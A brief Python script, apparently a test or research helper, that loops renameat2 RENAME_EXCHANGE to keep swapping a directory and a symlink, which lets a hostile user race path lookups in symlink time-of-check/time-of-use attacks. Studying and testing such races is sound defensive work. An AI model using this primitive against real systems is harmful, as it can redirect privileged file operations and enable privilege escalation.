"""Swap a directory and a symlink with renameat2(RENAME_EXCHANGE) until killed (run as the hostile user).

    python flip_dir.py DIR LINK

Each exchange makes DIR the symlink and LINK the directory, the next one puts them back; every path
lookup through DIR races with it.
"""

from __future__ import annotations

import ctypes
import os
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2

libc = ctypes.CDLL(None, use_errno=True)
a, b = (p.encode() for p in sys.argv[1:3])
while True:
    if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
        err = ctypes.get_errno()
        sys.exit(f"renameat2: {os.strerror(err)}")
